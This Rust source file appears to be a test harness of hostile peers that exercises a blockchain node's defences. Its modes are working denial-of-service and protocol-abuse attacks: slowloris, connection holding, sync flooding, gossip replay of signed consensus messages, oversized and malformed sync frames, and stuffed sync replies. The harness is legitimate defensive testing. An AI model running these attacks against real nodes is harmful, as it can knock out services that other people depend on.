//! `pov-attack`: small hostile peers for the attack tests, each a mode of this one binary
//! (run inside an attacker's network namespace by the tests; never point it at a host you do
//! not own). It is its own libp2p client, not a modified `povd`: it speaks exactly as much of
//! the protocol as its attack needs, and lies where the attack lies.
//!
//! Modes (all stop by themselves after `SECS`), each printing one line of counts at the end:
//! - `tcp-hold ADDR COUNT SECS`: opens COUNT plain TCP connections to ADDR (ip:port), sends
//!   nothing, holds them; prints how many opened and how many the target still kept open.
//! - `libp2p-hold MULTIADDR GENESIS_HEX COUNT SECS`: one libp2p identity that passes the
//!   chain check (it echoes the genesis in identify) dials the target COUNT times; prints
//!   how many connections were established and how many were still open at the end.
//! - `sync-flood MULTIADDR GENESIS_HEX INFLIGHT SECS`: one identity sends block-sync requests
//!   for the widest range as fast as the target answers, INFLIGHT at a time; prints requests
//!   sent, answered and failed.
//! - `slowloris ADDR COUNT SECS`: keeps COUNT HTTP connections to ADDR (ip:port) sending a
//!   request's headers one byte a second, re-opening those the server closes; prints how
//!   many the server closed and how many were open at the end.
//! - `big-body ADDR BYTES`: POSTs a transaction body of BYTES bytes to ADDR's `/tx`; prints
//!   the status the server answered (0 if none) and how many body bytes it took first.
//! - `gossip MULTIADDR GENESIS_HEX COPIES SECS`: joins the chain's gossip and, for SECS
//!   seconds, publishes every consensus message it receives (real, signed votes and
//!   proposals) again COPIES times under fresh envelope nonces; then publishes transactions
//!   with bad signatures (signed for another genesis of the same chain id) and of another
//!   chain, and garbage; prints how many messages it received and re-sent, how many bad ones
//!   it sent, whether the target cut it off while it was copying, or at all, and
//!   whether it refused a new one.
//! - `sync-bad MULTIADDR GENESIS_HEX garbage|oversized|foreign`: sends one block-sync
//!   request that no honest node sends (bytes that do not decode, 64 KiB, or a valid request
//!   sent at once by a peer of another genesis); prints whether it was answered, whether the
//!   target closed the connection, and whether it refused a new one.
//! - `sync-answer-oversized MULTIADDR GENESIS_HEX SECS`: connects as a peer of the chain that
//!   serves block sync, and answers every sync request the target sends it with a frame of
//!   17 MiB (over the 16 MiB message limit); prints how many requests it got and answered,
//!   whether the target closed the connection, and whether it refused a new one.
//! - `sync-answer-stuffed MULTIADDR GENESIS_HEX SECS`: fetches the target's own first blocks
//!   (real blocks with real certificates, heights the target holds), then claims a far
//!   greater height in its sync status and answers the target's request for the blocks above
//!   its head with those stored ones instead; prints how many bytes of blocks it fetched, how
//!   many requests it got and answered with them, whether the target closed the connection,
//!   and whether it refused a new one.

use std::collections::HashSet;
use std::io::Read;
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, StreamExt};
use libp2p::swarm::{dial_opts::DialOpts, NetworkBehaviour, SwarmEvent};
use libp2p::{
    gossipsub, identify, identity, noise, request_response, tcp, yamux, Multiaddr, PeerId,
    StreamProtocol,
};

type Result<T> = std::result::Result<T, String>;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let outcome = match args.first().map(String::as_str) {
        Some("tcp-hold") => tcp_hold(&args[1..]),
        Some("libp2p-hold") => run_async(libp2p_hold(&args[1..])),
        Some("sync-flood") => run_async(sync_flood(&args[1..])),
        Some("slowloris") => slowloris(&args[1..]),
        Some("big-body") => big_body(&args[1..]),
        Some("gossip") => run_async(gossip_abuse(&args[1..])),
        Some("sync-bad") => run_async(sync_bad(&args[1..])),
        Some("sync-answer-oversized") => run_async(sync_answer_oversized(&args[1..])),
        Some("sync-answer-stuffed") => run_async(sync_answer_stuffed(&args[1..])),
        _ => {
            Err("usage: pov-attack tcp-hold|libp2p-hold|sync-flood ARGS... (see the source)".into())
        }
    };
    if let Err(e) = outcome {
        eprintln!("pov-attack: {e}");
        std::process::exit(2);
    }
}

fn arg<T: std::str::FromStr>(args: &[String], i: usize, what: &str) -> Result<T> {
    args.get(i)
        .ok_or_else(|| format!("missing {what}"))?
        .parse()
        .map_err(|_| format!("bad {what}: {:?}", args[i]))
}

fn run_async(future: impl std::future::Future<Output = Result<()>>) -> Result<()> {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|e| format!("runtime: {e}"))?
        .block_on(future)
}

/// Plain TCP connections that never say a word.
fn tcp_hold(args: &[String]) -> Result<()> {
    let addr: SocketAddr = arg(args, 0, "ADDR")?;
    let count: usize = arg(args, 1, "COUNT")?;
    let secs: u64 = arg(args, 2, "SECS")?;
    let mut streams = Vec::with_capacity(count);
    let mut failed = 0usize;
    for _ in 0..count {
        match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
            Ok(stream) => streams.push(stream),
            Err(_) => failed += 1,
        }
    }
    let opened = streams.len();
    std::thread::sleep(Duration::from_secs(secs));
    // Still open: a read would block (the target neither closed nor reset it).
    let mut open = 0usize;
    for stream in &mut streams {
        let _ = stream.set_nonblocking(true);
        let mut byte = [0u8; 1];
        match stream.read(&mut byte) {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => open += 1,
            _ => {}
        }
    }
    println!("tcp-hold: opened {opened}, failed {failed}, still open {open}");
    Ok(())
}

/// Many connections, each dribbling out a request's headers.
fn slowloris(args: &[String]) -> Result<()> {
    use std::io::Write;
    let addr: SocketAddr = arg(args, 0, "ADDR")?;
    let count: usize = arg(args, 1, "COUNT")?;
    let secs: u64 = arg(args, 2, "SECS")?;
    let open = |_: usize| -> Option<TcpStream> {
        let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
        stream.set_nodelay(true).ok()?;
        stream
            .write_all(b"GET /status HTTP/1.1\r\nHost: x\r\n")
            .ok()?;
        Some(stream)
    };
    let mut streams: Vec<Option<TcpStream>> = (0..count).map(open).collect();
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut closed = 0u64;
    while Instant::now() < deadline {
        for slot in &mut streams {
            let alive = match slot {
                Some(stream) => {
                    stream.write_all(b"X").is_ok()
                        && {
                            // The server hung up if a read returns EOF or an error right away.
                            let _ = stream.set_nonblocking(true);
                            let mut byte = [0u8; 256];
                            let gone = !matches!(stream.read(&mut byte), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock);
                            let _ = stream.set_nonblocking(false);
                            !gone
                        }
                }
                None => false,
            };
            if !alive {
                if slot.is_some() {
                    closed += 1;
                }
                *slot = open(0);
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    let open_now = streams.iter().filter(|s| s.is_some()).count();
    println!("slowloris: closed by server {closed}, open at end {open_now}");
    Ok(())
}

/// One oversized request body.
fn big_body(args: &[String]) -> Result<()> {
    use std::io::Write;
    let addr: SocketAddr = arg(args, 0, "ADDR")?;
    let bytes: usize = arg(args, 1, "BYTES")?;
    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2))
        .map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .map_err(|e| format!("socket: {e}"))?;
    let head = format!(
        "POST /tx HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {bytes}\r\n\r\n"
    );
    stream
        .write_all(head.as_bytes())
        .map_err(|e| format!("write: {e}"))?;
    let chunk = vec![b' '; 64 * 1024];
    let mut sent = 0usize;
    while sent < bytes {
        let n = chunk.len().min(bytes - sent);
        if stream.write_all(&chunk[..n]).is_err() {
            break;
        }
        sent += n;
    }
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    let status = answer
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse::<u16>().ok())
        .unwrap_or(0);
    println!("big-body: status {status}, body bytes sent {sent}");
    Ok(())
}

/// The block-sync wire codec: a 4-byte big-endian length, then the bytes.
#[derive(Debug, Clone, Default)]
struct Frames;

async fn read_frame<T: AsyncRead + Unpin + Send>(io: &mut T) -> std::io::Result<Vec<u8>> {
    let mut prefix = [0u8; 4];
    io.read_exact(&mut prefix).await?;
    let len = u32::from_be_bytes(prefix) as u64;
    let mut buf = Vec::new();
    io.take(len.min(32 << 20)).read_to_end(&mut buf).await?;
    Ok(buf)
}

async fn write_frame<T: AsyncWrite + Unpin + Send>(io: &mut T, data: &[u8]) -> std::io::Result<()> {
    let len = u32::try_from(data.len()).unwrap_or(u32::MAX);
    io.write_all(&len.to_be_bytes()).await?;
    io.write_all(data).await?;
    io.flush().await
}

impl request_response::Codec for Frames {
    type Protocol = StreamProtocol;
    type Request = Vec<u8>;
    type Response = Vec<u8>;

    async fn read_request<T: AsyncRead + Unpin + Send>(
        &mut self,
        _: &StreamProtocol,
        io: &mut T,
    ) -> std::io::Result<Vec<u8>> {
        read_frame(io).await
    }
    async fn read_response<T: AsyncRead + Unpin + Send>(
        &mut self,
        _: &StreamProtocol,
        io: &mut T,
    ) -> std::io::Result<Vec<u8>> {
        read_frame(io).await
    }
    async fn write_request<T: AsyncWrite + Unpin + Send>(
        &mut self,
        _: &StreamProtocol,
        io: &mut T,
        req: Vec<u8>,
    ) -> std::io::Result<()> {
        write_frame(io, &req).await
    }
    async fn write_response<T: AsyncWrite + Unpin + Send>(
        &mut self,
        _: &StreamProtocol,
        io: &mut T,
        res: Vec<u8>,
    ) -> std::io::Result<()> {
        write_frame(io, &res).await
    }
}

/// What the attacker speaks: identify (to pass the chain check) and block sync.
#[derive(NetworkBehaviour)]
struct Attacker {
    identify: identify::Behaviour,
    sync: request_response::Behaviour<Frames>,
}

/// A swarm that claims to run the chain of `genesis_hex` (it only sends block-sync requests).
fn swarm(genesis_hex: &str) -> Result<libp2p::Swarm<Attacker>> {
    swarm_with(genesis_hex, request_response::ProtocolSupport::Outbound)
}

/// [`swarm`], taking block-sync requests too when `support` says so.
fn swarm_with(
    genesis_hex: &str,
    support: request_response::ProtocolSupport,
) -> Result<libp2p::Swarm<Attacker>> {
    if genesis_hex.len() != 64 {
        return Err("GENESIS_HEX must be 64 hex digits".into());
    }
    let key = identity::Keypair::generate_ed25519();
    let protocol = StreamProtocol::try_from_owned(format!("/pov/{}/sync/1", &genesis_hex[..16]))
        .map_err(|e| format!("protocol: {e}"))?;
    let behaviour = Attacker {
        identify: identify::Behaviour::new(identify::Config::new(
            format!("/pov/1/{genesis_hex}"),
            key.public(),
        )),
        sync: request_response::Behaviour::with_codec(
            Frames,
            std::iter::once((protocol, support)),
            request_response::Config::default().with_request_timeout(Duration::from_secs(30)),
        ),
    };
    Ok(libp2p::SwarmBuilder::with_existing_identity(key)
        .with_tokio()
        .with_tcp(
            tcp::Config::default(),
            noise::Config::new,
            yamux::Config::default,
        )
        .map_err(|e| format!("transport: {e}"))?
        .with_behaviour(|_| behaviour)
        .map_err(|e| format!("behaviour: {e}"))?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
        .build())
}

/// One identity, COUNT connections to the same target.
async fn libp2p_hold(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let count: usize = arg(args, 2, "COUNT")?;
    let secs: u64 = arg(args, 3, "SECS")?;
    let mut swarm = swarm(&genesis)?;
    for _ in 0..count {
        let opts = DialOpts::unknown_peer_id().address(target.clone()).build();
        let _ = swarm.dial(opts);
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    let mut open = HashSet::new();
    let mut established = 0usize;
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { connection_id, .. } => {
                    established += 1;
                    open.insert(connection_id);
                }
                SwarmEvent::ConnectionClosed { connection_id, .. } => {
                    open.remove(&connection_id);
                }
                _ => {}
            }
        }
    }
    println!(
        "libp2p-hold: established {established}, still open {}",
        open.len()
    );
    Ok(())
}

/// The postcard bytes of `SyncRequest::Blocks { from: 1, to: u64::MAX }` (variant 1, two
/// varints): the widest range a peer can ask for.
fn widest_blocks_request() -> Vec<u8> {
    let mut request = vec![1u8];
    request.extend(varint(1));
    request.extend(varint(u64::MAX));
    request
}

/// Block-sync requests as fast as they are answered.
async fn sync_flood(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let inflight: usize = arg(args, 2, "INFLIGHT")?;
    let secs: u64 = arg(args, 3, "SECS")?;
    let mut swarm = swarm(&genesis)?;
    swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .map_err(|e| format!("dial: {e}"))?;
    let request = widest_blocks_request();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    let started = Instant::now();
    let mut peer = None;
    let (mut sent, mut answered, mut failed, mut outstanding) = (0u64, 0u64, 0u64, 0usize);
    let mut disconnects = 0u64;
    loop {
        if let Some(peer) = peer {
            while outstanding < inflight {
                swarm
                    .behaviour_mut()
                    .sync
                    .send_request(&peer, request.clone());
                sent += 1;
                outstanding += 1;
            }
        }
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
                SwarmEvent::ConnectionClosed { num_established: 0, .. } => {
                    // Hung up on: come back, as a real attacker would.
                    disconnects += 1;
                    peer = None;
                    outstanding = 0;
                    let _ = swarm.dial(DialOpts::unknown_peer_id().address(target.clone()).build());
                }
                SwarmEvent::OutgoingConnectionError { .. } => {
                    tokio::time::sleep(Duration::from_millis(200)).await;
                    let _ = swarm.dial(DialOpts::unknown_peer_id().address(target.clone()).build());
                }
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
                    message: request_response::Message::Response { .. }, ..
                })) => {
                    answered += 1;
                    outstanding = outstanding.saturating_sub(1);
                }
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::OutboundFailure { .. })) => {
                    failed += 1;
                    outstanding = outstanding.saturating_sub(1);
                }
                _ => {}
            }
        }
    }
    println!(
        "sync-flood: sent {sent}, answered {answered}, failed {failed}, disconnected \
         {disconnects} times in {:.0} s",
        started.elapsed().as_secs_f64()
    );
    Ok(())
}

/// What the gossip attacker speaks: identify (to pass the chain check) and gossipsub.
#[derive(NetworkBehaviour)]
struct Gossiper {
    identify: identify::Behaviour,
    gossipsub: gossipsub::Behaviour,
}

/// A gossip swarm that claims to run the chain of `genesis_hex`, with the chain's consensus
/// and transaction topics.
fn gossip_swarm(
    genesis_hex: &str,
) -> Result<(
    libp2p::Swarm<Gossiper>,
    gossipsub::IdentTopic,
    gossipsub::IdentTopic,
)> {
    if genesis_hex.len() != 64 {
        return Err("GENESIS_HEX must be 64 hex digits".into());
    }
    let key = identity::Keypair::generate_ed25519();
    let config = gossipsub::ConfigBuilder::default()
        .max_transmit_size(17 << 20)
        .validation_mode(gossipsub::ValidationMode::Strict)
        .build()
        .map_err(|e| format!("gossipsub: {e}"))?;
    let mut gossip =
        gossipsub::Behaviour::new(gossipsub::MessageAuthenticity::Signed(key.clone()), config)
            .map_err(|e| format!("gossipsub: {e}"))?;
    let short = &genesis_hex[..16];
    let consensus = gossipsub::IdentTopic::new(format!("/pov/{short}/consensus/1"));
    let txs = gossipsub::IdentTopic::new(format!("/pov/{short}/tx/1"));
    for topic in [&consensus, &txs] {
        gossip
            .subscribe(topic)
            .map_err(|e| format!("subscribe: {e}"))?;
    }
    let behaviour = Gossiper {
        identify: identify::Behaviour::new(identify::Config::new(
            format!("/pov/1/{genesis_hex}"),
            key.public(),
        )),
        gossipsub: gossip,
    };
    let swarm = libp2p::SwarmBuilder::with_existing_identity(key)
        .with_tokio()
        .with_tcp(
            tcp::Config::default(),
            noise::Config::new,
            yamux::Config::default,
        )
        .map_err(|e| format!("transport: {e}"))?
        .with_behaviour(|_| behaviour)
        .map_err(|e| format!("behaviour: {e}"))?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
        .build();
    Ok((swarm, consensus, txs))
}

/// `n` as a postcard varint.
fn varint(mut n: u64) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let byte = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            out.push(byte);
            return out;
        }
        out.push(byte | 0x80);
    }
}

/// A gossip payload with its leading varint nonce replaced by `nonce`: the same signed
/// message in a new envelope, which gossipsub takes for a new message.
fn renonce(payload: &[u8], nonce: u64) -> Vec<u8> {
    let old = payload
        .iter()
        .take(10)
        .position(|b| b & 0x80 == 0)
        .map_or(0, |last| last + 1);
    let mut out = varint(nonce);
    out.extend_from_slice(&payload[old..]);
    out
}

/// Transactions no honest node relays, each in its own gossip envelope: signed for another
/// genesis of the dev chain id (a bad signature here), and of another chain.
fn bad_transactions(count: u64) -> Vec<Vec<u8>> {
    use pov_protocol::{Transaction, TxBody};
    (0..count)
        .map(|i| {
            let key = pov_crypto::Keypair::dev(5);
            let chain = if i % 2 == 0 {
                "pov-devnet"
            } else {
                "bakery-coop"
            };
            let tx = Transaction::sign(
                &key,
                chain,
                &pov_crypto::Hash::ZERO,
                i + 1,
                TxBody::Contribute {
                    kind: "work".into(),
                    title: format!("junk {i}"),
                    uri: "https://example.org".into(),
                    content_hash: None,
                },
            );
            let mut envelope = varint(i);
            envelope.extend(varint(1));
            envelope.extend(tx.to_bytes());
            envelope
        })
        .collect()
}

/// Polls `swarm` until `deadline`, noting whether the connection to `target` closed.
async fn drain<B: NetworkBehaviour>(
    swarm: &mut libp2p::Swarm<B>,
    deadline: tokio::time::Instant,
    closed: &mut bool,
) {
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => return,
            event = swarm.select_next_some() => {
                if let SwarmEvent::ConnectionClosed { num_established: 0, .. } = event {
                    *closed = true;
                }
            }
        }
    }
}

/// Whether a new identity-less dial of `target` by `swarm`'s identity is refused (the
/// target banned this peer id): waits up to 5 s for the outcome.
async fn redial_refused<B: NetworkBehaviour>(
    swarm: &mut libp2p::Swarm<B>,
    target: &Multiaddr,
) -> bool {
    if swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .is_err()
    {
        return false;
    }
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => return true,
            event = swarm.select_next_some() => match event {
                // Accepted, then dropped at once by a peer that blocks us: refused.
                SwarmEvent::ConnectionClosed { .. } | SwarmEvent::OutgoingConnectionError { .. } => {
                    return true
                }
                SwarmEvent::ConnectionEstablished { .. } => {
                    // Give a blocking target a moment to hang up.
                    let grace = tokio::time::Instant::now() + Duration::from_secs(2);
                    let mut closed = false;
                    drain(swarm, grace, &mut closed).await;
                    return closed;
                }
                _ => {}
            }
        }
    }
}

/// Re-enveloped real consensus messages, then bad transactions and garbage.
async fn gossip_abuse(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let copies: u64 = arg(args, 2, "COPIES")?;
    let secs: u64 = arg(args, 3, "SECS")?;
    let (mut swarm, consensus, txs) = gossip_swarm(&genesis)?;
    swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .map_err(|e| format!("dial: {e}"))?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    let mut nonce = u64::from(std::process::id()) << 32;
    let (mut received, mut resent, mut unsent) = (0u64, 0u64, 0u64);
    let mut peer: Option<PeerId> = None;
    let mut closed = false;
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
                SwarmEvent::ConnectionClosed { num_established: 0, .. } => closed = true,
                SwarmEvent::Behaviour(GossiperEvent::Gossipsub(gossipsub::Event::Message {
                    message, ..
                })) if message.topic == consensus.hash() => {
                    received += 1;
                    for _ in 0..copies {
                        nonce += 1;
                        let copy = renonce(&message.data, nonce);
                        match swarm.behaviour_mut().gossipsub.publish(consensus.clone(), copy) {
                            Ok(_) => resent += 1,
                            Err(_) => unsent += 1,
                        }
                    }
                }
                _ => {}
            }
        }
    }
    // Now what no honest node sends: a few are enough for a ban (three rejected messages).
    let mut bad = 0u64;
    for envelope in bad_transactions(6) {
        if swarm
            .behaviour_mut()
            .gossipsub
            .publish(txs.clone(), envelope)
            .is_ok()
        {
            bad += 1;
        }
    }
    for i in 0..6u64 {
        let mut garbage = varint(i);
        garbage.extend_from_slice(b"\xff\xfe not a consensus message");
        garbage.extend_from_slice(&i.to_le_bytes());
        if swarm
            .behaviour_mut()
            .gossipsub
            .publish(consensus.clone(), garbage)
            .is_ok()
        {
            bad += 1;
        }
    }
    let closed_while_copying = closed;
    drain(
        &mut swarm,
        tokio::time::Instant::now() + Duration::from_secs(8),
        &mut closed,
    )
    .await;
    let refused = closed && redial_refused(&mut swarm, &target).await;
    println!(
        "gossip: target {}, received {received}, re-sent {resent}, not sent {unsent}, bad {bad}, \
         cut off while copying {}, closed {}, redial refused {}",
        peer.map(|p| p.to_string()).unwrap_or_default(),
        u8::from(closed_while_copying),
        u8::from(closed),
        u8::from(refused)
    );
    Ok(())
}

/// One block-sync request that no honest node sends.
async fn sync_bad(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let kind: String = arg(args, 2, "KIND")?;
    // (request, identify's genesis, wait for the chain check before sending)
    let (request, claimed, wait) = match kind.as_str() {
        // Variant 9 does not exist.
        "garbage" => (vec![9u8, 1, 2, 3], genesis.clone(), 2),
        "oversized" => (vec![0u8; 64 * 1024], genesis.clone(), 2),
        // A valid status request, at once, from a peer of another genesis whose hash shares
        // the first 16 hex digits (so the sync protocol's name matches): it never passes the
        // chain check.
        "foreign" => {
            let mut other = genesis.clone();
            let last = if other.ends_with('0') { "1" } else { "0" };
            other.replace_range(63.., last);
            (vec![0u8], other, 0)
        }
        other => return Err(format!("unknown kind {other:?}")),
    };
    let mut swarm = swarm(&claimed)?;
    swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .map_err(|e| format!("dial: {e}"))?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let mut answered = false;
    let mut closed = false;
    let mut sent = false;
    // Sent a moment after connecting, once identify has passed the chain check.
    let mut send_at: Option<(tokio::time::Instant, PeerId)> = None;
    loop {
        let wake = send_at.map_or(deadline, |(at, _)| at);
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            _ = tokio::time::sleep_until(wake), if send_at.is_some() => {
                if let Some((_, peer)) = send_at.take() {
                    swarm.behaviour_mut().sync.send_request(&peer, request.clone());
                    sent = true;
                }
            }
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { peer_id, .. } if !sent && send_at.is_none() => {
                    send_at = Some((tokio::time::Instant::now() + Duration::from_secs(wait), peer_id));
                }
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
                    message: request_response::Message::Response { .. }, ..
                })) => answered = true,
                SwarmEvent::ConnectionClosed { num_established: 0, .. } if sent => {
                    closed = true;
                    break;
                }
                _ => {}
            }
        }
    }
    let refused = closed && redial_refused(&mut swarm, &target).await;
    println!(
        "sync-bad {kind}: answered {}, closed {}, redial refused {}",
        u8::from(answered),
        u8::from(closed),
        u8::from(refused)
    );
    Ok(())
}

/// A sync reply stuffed with heights the target already holds: the target's own blocks
/// (real, certified, cheap to send) given back as the answer to a request for heights above
/// its head. An honest node never sends one; checking it block by block would cost the target
/// a store read each.
async fn sync_answer_stuffed(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let secs: u64 = arg(args, 2, "SECS")?;
    let genesis_hash: pov_crypto::Hash = arg(args, 1, "GENESIS_HEX")?;
    // postcard of SyncResponse::Status { genesis, height: 2^40 }: variant 0, the hash's 32
    // bytes, the height as a varint.
    let mut status = vec![0u8];
    status.extend_from_slice(&genesis_hash.0);
    status.extend_from_slice(&varint(1 << 40));
    let fetch = widest_blocks_request();
    let mut swarm = swarm_with(&genesis, request_response::ProtocolSupport::Full)?;
    swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .map_err(|e| format!("dial: {e}"))?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    let mut stored: Option<Vec<u8>> = None;
    let (mut asked, mut answered, mut closed) = (0u64, 0u64, false);
    // The target answers only once its chain check of us is done, and rations answers per
    // peer: ask again every half second until the blocks are in hand.
    let mut peer = None;
    let mut retry = tokio::time::interval(Duration::from_millis(500));
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            _ = retry.tick() => {
                if let (Some(peer), None) = (peer, &stored) {
                    swarm.behaviour_mut().sync.send_request(&peer, fetch.clone());
                }
            }
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
                    message: request_response::Message::Response { response, .. }, ..
                })) if response.first() == Some(&1) => stored = Some(response),
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
                    message: request_response::Message::Request { request, channel, .. }, ..
                })) => {
                    // Status first (claim to be far ahead), then the stored blocks for
                    // whatever heights the target asks; nothing before the blocks are in hand.
                    let reply = match (request.first(), &stored) {
                        (Some(0), _) => Some(status.clone()),
                        (Some(1), Some(blocks)) => {
                            asked += 1;
                            Some(blocks.clone())
                        }
                        _ => None,
                    };
                    if let Some(reply) = reply {
                        let blocks = reply.len() != status.len();
                        if swarm.behaviour_mut().sync.send_response(channel, reply).is_ok() && blocks {
                            answered += 1;
                        }
                    }
                }
                SwarmEvent::ConnectionClosed { num_established: 0, .. } if answered > 0 => {
                    closed = true;
                    break;
                }
                _ => {}
            }
        }
    }
    let refused = closed && redial_refused(&mut swarm, &target).await;
    println!(
        "sync-answer-stuffed: fetched {} bytes, asked {asked}, answered {answered}, closed {}, \
         redial refused {}",
        stored.as_ref().map_or(0, Vec::len),
        u8::from(closed),
        u8::from(refused)
    );
    Ok(())
}

/// Answers the target's block-sync requests with a frame over its message limit.
async fn sync_answer_oversized(args: &[String]) -> Result<()> {
    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
    let secs: u64 = arg(args, 2, "SECS")?;
    let mut swarm = swarm_with(&genesis, request_response::ProtocolSupport::Full)?;
    swarm
        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
        .map_err(|e| format!("dial: {e}"))?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    // 17 MiB: one MiB over the default `max_message_bytes`.
    let oversized = vec![0u8; 17 << 20];
    let (mut asked, mut answered, mut closed) = (0u64, 0u64, false);
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => break,
            event = swarm.select_next_some() => match event {
                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
                    message: request_response::Message::Request { channel, .. }, ..
                })) => {
                    asked += 1;
                    if swarm
                        .behaviour_mut()
                        .sync
                        .send_response(channel, oversized.clone())
                        .is_ok()
                    {
                        answered += 1;
                    }
                }
                SwarmEvent::ConnectionClosed { num_established: 0, .. } if asked > 0 => {
                    closed = true;
                    break;
                }
                _ => {}
            }
        }
    }
    let refused = closed && redial_refused(&mut swarm, &target).await;
    println!(
        "sync-answer-oversized: asked {asked}, answered {answered}, closed {}, redial refused {}",
        u8::from(closed),
        u8::from(refused)
    );
    Ok(())
}
